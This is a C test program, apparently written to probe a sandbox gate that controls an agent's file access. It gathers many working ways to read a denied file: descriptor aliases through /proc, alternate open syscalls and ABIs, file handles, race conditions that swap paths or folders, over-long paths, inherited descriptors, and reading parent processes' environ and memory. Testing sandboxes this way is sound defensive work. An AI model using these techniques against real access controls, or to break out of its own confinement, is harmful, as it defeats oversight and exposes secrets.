/* Reading a file that policy denies, by another name, another call or another moment. argv: secret, its folder, open folder. */
#include "attack.h"
#include <pthread.h>
#include <sys/sendfile.h>
#include <linux/openat2.h>

static void fd_aliases(char **a) {
  char p[256];
  int s = open(a[0], O_PATH), d = open(a[1], O_PATH | O_DIRECTORY), r = open(a[1], O_RDONLY | O_DIRECTORY);
  const char *name = strrchr(a[0], '/') + 1;
  const char *forms[] = {"/proc/self/fd/%d", "/proc/thread-self/fd/%d", "/dev/fd/%d"};
  for (int i = 0; i < 3; i++) {
    snprintf(p, sizeof p, forms[i], s);
    show(forms[i], open(p, O_RDONLY));
    snprintf(p, sizeof p, forms[i], d);
    show("through the folder's descriptor", open(joined(p, name), O_RDONLY));
  }
  snprintf(p, sizeof p, "/proc/%d/task/%d/fd/%d", getpid(), getpid(), s);
  show("task", open(p, O_RDONLY));
  show("openat O_PATH folder", openat(d, name, O_RDONLY));
  show("openat folder", openat(r, name, O_RDONLY));
  show("openat up and down", openat(d, joined("../financials", name), O_RDONLY));
  if (fork() == 0) { /* the parent's descriptor by its number */
    snprintf(p, sizeof p, "/proc/%d/fd/%d", getppid(), s);
    show("parent's descriptor", open(p, O_RDONLY));
    _exit(0);
  }
  wait(NULL);
  if (fchdir(d)) perror("fchdir");
  show("fchdir", open(name, O_RDONLY));
  show("cwd link", open(joined("/proc/self/cwd", name), O_RDONLY));
  struct open_how how = {.flags = O_RDONLY, .resolve = RESOLVE_BENEATH};
  show("openat2 beneath", (int)syscall(SYS_openat2, d, name, &how, sizeof how));
  how.resolve = RESOLVE_IN_ROOT;
  show("openat2 in root", (int)syscall(SYS_openat2, d, joined("", name), &how, sizeof how));
}

/* An editor outside saves the file anew; the agent still names the old one. */
static void replaced_outside(char **a) {
  char p[64];
  int s = open(a[0], O_PATH);
  write_file(joined(a[2], "ready"), "x");
  if (await_file(joined(a[2], "replaced"))) printf("nobody replaced it\n");
  snprintf(p, sizeof p, "/proc/self/fd/%d", s);
  show("replaced file", open(p, O_RDONLY));
  show("replaced file, to write", open(p, O_RDWR));
  tried("link of it", linkat(AT_FDCWD, p, AT_FDCWD, joined(a[2], "old.csv"), AT_SYMLINK_FOLLOW));
}

static void openers(char **a) {
  show("open", (int)syscall(SYS_open, a[0], O_RDONLY, 0));
  show("open read-write", (int)syscall(SYS_open, a[0], O_RDWR, 0));
  show("openat", (int)syscall(SYS_openat, AT_FDCWD, a[0], O_RDONLY | O_NOFOLLOW | O_NONBLOCK, 0));
  show("access mode 3", open(a[0], 3));
  struct { struct open_how h; uint64_t more[4]; } how = {.h = {.flags = O_RDONLY}};
  show("openat2", (int)syscall(SYS_openat2, AT_FDCWD, a[0], &how, sizeof how.h));
  show("openat2 larger", (int)syscall(SYS_openat2, AT_FDCWD, a[0], &how, sizeof how));
  show("high bits", (int)syscall(SYS_openat, 0xffffffff00000000ull | (unsigned)AT_FDCWD, a[0], 0xff00000000ull, 0));
  int in = open(a[0], O_RDONLY), out = open(joined(a[2], "copy"), O_RDWR | O_CREAT, 0600);
  if (in >= 0) {
    tried("sendfile", sendfile(out, in, NULL, 4096));
    tried("copy_file_range", copy_file_range(in, &(off_t){0}, out, NULL, 4096, 0));
    void *m = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, in, 0);
    if (m != MAP_FAILED) printf("%s", (char *)m);
  }
  tried("execve", execve(a[0], (char *[]){a[0], NULL}, (char *[]){NULL}));
}

static void handles(char **a) {
  struct { unsigned bytes; int type; unsigned char h[128]; } fh = {.bytes = 128};
  int mount, root = open("/", O_RDONLY | O_DIRECTORY);
  long r = syscall(SYS_name_to_handle_at, AT_FDCWD, a[0], &fh, &mount, 0);
  printf("name_to_handle_at: %s\n", r < 0 ? strerror(errno) : "ok");
  if (r < 0) { /* as on ext4: inode and a guess of its generation; enough to see that the call itself is shut */
    struct stat st;
    stat(a[0], &st);
    fh.bytes = 8;
    fh.type = 1;
    memcpy(fh.h, &st.st_ino, 4);
  }
  show("open_by_handle_at", (int)syscall(SYS_open_by_handle_at, root, &fh, O_RDONLY));
}

static void ring(char **a) {
  (void)a;
  char p[256] = {0};
  tried("io_uring_setup", syscall(SYS_io_uring_setup, 8, p));
}

#if defined __x86_64__
static long i386(long nr, long x, long y, long z) {
  long r;
  __asm__ volatile("push %%rbx; mov %%rsi,%%rbx; int $0x80; pop %%rbx"
                   : "=a"(r) : "0"(nr), "S"(x), "c"(y), "d"(z) : "memory", "r8", "r9", "r10", "r11");
  return r;
}
static void foreign(char **a) {
  char *low = mmap((void *)0x10000000, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1, 0);
  strcpy(low, a[0]);
  long r = i386(5, (long)low, 0, 0);
  errno = r < 0 ? (int)-r : 0;
  show("int80 open", r < 0 ? -1 : (int)r);
  r = i386(295, AT_FDCWD, (long)low, 0);
  errno = r < 0 ? (int)-r : 0;
  show("int80 openat", r < 0 ? -1 : (int)r);
  show("x32 open", (int)syscall(0x40000000 | 2, a[0], 0, 0));
  show("x32 openat", (int)syscall(0x40000000 | 257, AT_FDCWD, a[0], 0, 0));
}
#else
static void foreign(char **a) { (void)a; }
#endif

static void undumpable(char **a) {
  prctl(PR_SET_DUMPABLE, 0, 0, 0, 0);
  show("not dumpable", open(a[0], O_RDONLY));
  show("not dumpable, elsewhere", open(joined(a[2], "note"), O_RDONLY));
}

/* The path lies where it cannot be read as a whole: at the end of a page, or in one that goes away. */
static char *flipping;
static volatile int stop;
static void *unmapper(void *x) {
  (void)x;
  while (!stop) {
    mprotect(flipping, 4096, PROT_NONE);
    mprotect(flipping, 4096, PROT_READ | PROT_WRITE);
  }
  return NULL;
}
static void unreadable(char **a) {
  char *m = mmap(NULL, 8192, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
  size_t n = strlen(a[0]);
  munmap(m + 4096, 4096);
  memcpy(m + 4096 - n, a[0], n);
  show("unterminated", open(m + 4096 - n, O_RDONLY));
  memcpy(m + 4096 - n - 1, a[0], n + 1);
  show("at the end of a page", open(m + 4096 - n - 1, O_RDONLY));
  flipping = m;
  strcpy(m, a[0]);
  pthread_t t;
  pthread_create(&t, NULL, unmapper, NULL);
  for (int i = 0; i < 500; i++) {
    int fd = open(m, O_RDONLY);
    if (fd >= 0) { show("vanishing page", fd); break; }
  }
  stop = 1;
  pthread_join(t, NULL);
}

/* A16: one thread opens, another changes the path in memory between an open and a secret one. */
static char racing[PATH_MAX];
static char **race_args;
static void *flipper(void *x) {
  (void)x;
  const char *harmless = joined(race_args[2], "Q4.csv");
  char mine[PATH_MAX], theirs[PATH_MAX];
  size_t n = strlen(race_args[0]) + 1;
  memset(mine, 0, sizeof mine);
  strcpy(mine, harmless);
  strcpy(theirs, race_args[0]);
  if (strlen(mine) + 1 > n) n = strlen(mine) + 1;
  while (!stop) {
    memcpy(racing, theirs, n);
    memcpy(racing, mine, n);
  }
  return NULL;
}
static void race_memory(char **a) {
  race_args = a;
  write_file(joined(a[2], "Q4.csv"), "harmless\n");
  strcpy(racing, a[0]);
  pthread_t t;
  pthread_create(&t, NULL, flipper, NULL);
  long opened = 0;
  for (double end = seconds() + 0.8; seconds() < end;) {
    int fd = open(racing, O_RDONLY);
    char b[64] = {0};
    if (fd < 0) continue;
    opened++;
    if (read(fd, b, sizeof b - 1) > 0 && strncmp(b, "harmless", 8)) printf("%s", b);
    close(fd);
  }
  stop = 1;
  pthread_join(t, NULL);
  printf("opened %ld\n", opened);
}

/* A6: a folder on the way is exchanged for a link to the secret one, and back. */
static void *swapper(void *x) {
  (void)x;
  const char *d = joined(race_args[2], "d"), *l = joined(race_args[2], "l");
  char one[PATH_MAX], two[PATH_MAX];
  strcpy(one, d);
  strcpy(two, l);
  while (!stop) syscall(SYS_renameat2, AT_FDCWD, one, AT_FDCWD, two, 2 /* RENAME_EXCHANGE */);
  return NULL;
}
static void race_tree(char **a) {
  race_args = a;
  char p[PATH_MAX];
  snprintf(p, sizeof p, "%s/d", a[2]);
  mkdir(p, 0755);
  write_file(joined(p, "Q4.csv"), "harmless\n");
  if (symlink(a[1], joined(a[2], "l"))) perror("symlink");
  strcat(p, "/Q4.csv");
  pthread_t t;
  pthread_create(&t, NULL, swapper, NULL);
  long opened = 0, linked = 0;
  for (double end = seconds() + 0.8; seconds() < end;) {
    char b[64] = {0};
    int fd = open(p, O_RDONLY);
    if (fd >= 0) {
      opened++;
      if (read(fd, b, sizeof b - 1) > 0 && strncmp(b, "harmless", 8)) printf("%s", b);
      close(fd);
    }
    if (link(p, joined(a[2], "stolen")) == 0) {
      linked++;
      fd = open(joined(a[2], "stolen"), O_RDONLY);
      if (fd >= 0 && read(fd, b, sizeof b - 1) > 0 && strncmp(b, "harmless", 8)) printf("%s", b);
      if (fd >= 0) close(fd);
      unlink(joined(a[2], "stolen"));
    }
  }
  stop = 1;
  pthread_join(t, NULL);
  printf("opened %ld linked %ld\n", opened, linked);
}

/* A name longer than the kernel can tell: the file lies deeper than PATH_MAX. argv[0] is one component, argv[3] how many. */
static void deep(char **a) {
  if (chdir(a[1])) perror("chdir");
  for (int i = atoi(a[4]); i > 0; i--)
    if (chdir(a[3])) perror("chdir");
  show("deep", open("Q4.csv", O_RDONLY));
  tried("truncate", truncate("Q4.csv", 0));
  tried("unlink", unlink("Q4.csv"));
}

/* What the session hands over: everything above standard error, and standard input reopened for writing. */
static void inherited(char **a) {
  (void)a;
  for (int fd = 3; fd < 1024; fd++)
    if (fcntl(fd, F_GETFD) >= 0) {
      char p[64], b[256] = {0};
      snprintf(p, sizeof p, "/proc/self/fd/%d", fd);
      if (readlink(p, b, sizeof b - 1) < 0) b[0] = 0;
      printf("GAINED descriptor %d %s\n", fd, b);
      lseek(fd, 0, SEEK_SET);
      show("descriptor", dup(fd));
    }
  int w = open("/proc/self/fd/0", O_WRONLY);
  printf("standard input to write: %s\n", w < 0 ? strerror(errno) : "open");
  if (w >= 0 && write(w, "spoiled", 7) < 0) perror("write");
}

/* /proc of the gate and of whatever started it. */
static int parent_of(int pid) {
  char p[64], b[4096] = {0};
  snprintf(p, sizeof p, "/proc/%d/stat", pid);
  int fd = open(p, O_RDONLY);
  if (fd < 0) return 0;
  if (read(fd, b, sizeof b - 1) <= 0) b[0] = 0;
  close(fd);
  char *s = strrchr(b, ')');
  int parent = 0;
  if (s) sscanf(s + 2, "%*c %d", &parent);
  return parent;
}
static void proc_above(char **a) {
  int pids[4] = {getppid(), 0, 0, 0}, n = 1;
  for (; n < 2; n++)
    if ((pids[n] = parent_of(pids[n - 1])) <= 1) break;
  const char *names[] = {"environ", "mem", "maps", "cmdline", "fd/0", "fd/3", "fd/5", "cwd", "root", "exe", "auxv", "stack", "syscall",
                         "pagemap", "smaps", "io", "personality", "task", "fd", "ns/mnt", "limits", "oom_score_adj"};
  for (int i = 0; i < n; i++)
    for (size_t k = 0; k < sizeof names / sizeof *names; k++) {
      char p[PATH_MAX];
      if (pids[i] <= 0) continue;
      snprintf(p, sizeof p, "/proc/%d/%s", pids[i], names[k]);
      int fd = open(p, O_RDONLY | O_NONBLOCK);
      if (fd >= 0) printf("GAINED %s\n", p);
      if (fd >= 0) close(fd);
      if (fd >= 0 && !strcmp(names[k], "environ")) show(p, open(p, O_RDONLY));
      if (!strcmp(names[k], "root") || !strcmp(names[k], "cwd")) {
        snprintf(p, sizeof p, "/proc/%d/%s%s", pids[i], names[k], a[0]);
        show("secret through it", open(p, O_RDONLY));
      }
      if (!strcmp(names[k], "oom_score_adj") || !strcmp(names[k], "mem")) {
        fd = open(p, O_RDWR);
        if (fd >= 0) printf("GAINED %s to write\n", p);
        if (fd >= 0) close(fd);
      }
    }
}

static const struct attack attacks[] = {
    {"fd_aliases", fd_aliases}, {"replaced_outside", replaced_outside}, {"openers", openers}, {"handles", handles}, {"ring", ring},
    {"foreign", foreign}, {"undumpable", undumpable}, {"unreadable", unreadable}, {"race_memory", race_memory},
    {"race_tree", race_tree}, {"deep", deep}, {"inherited", inherited}, {"proc_above", proc_above}, {0},
};
int main(int argc, char **argv) { (void)argc; return run_attack(attacks, argv); }
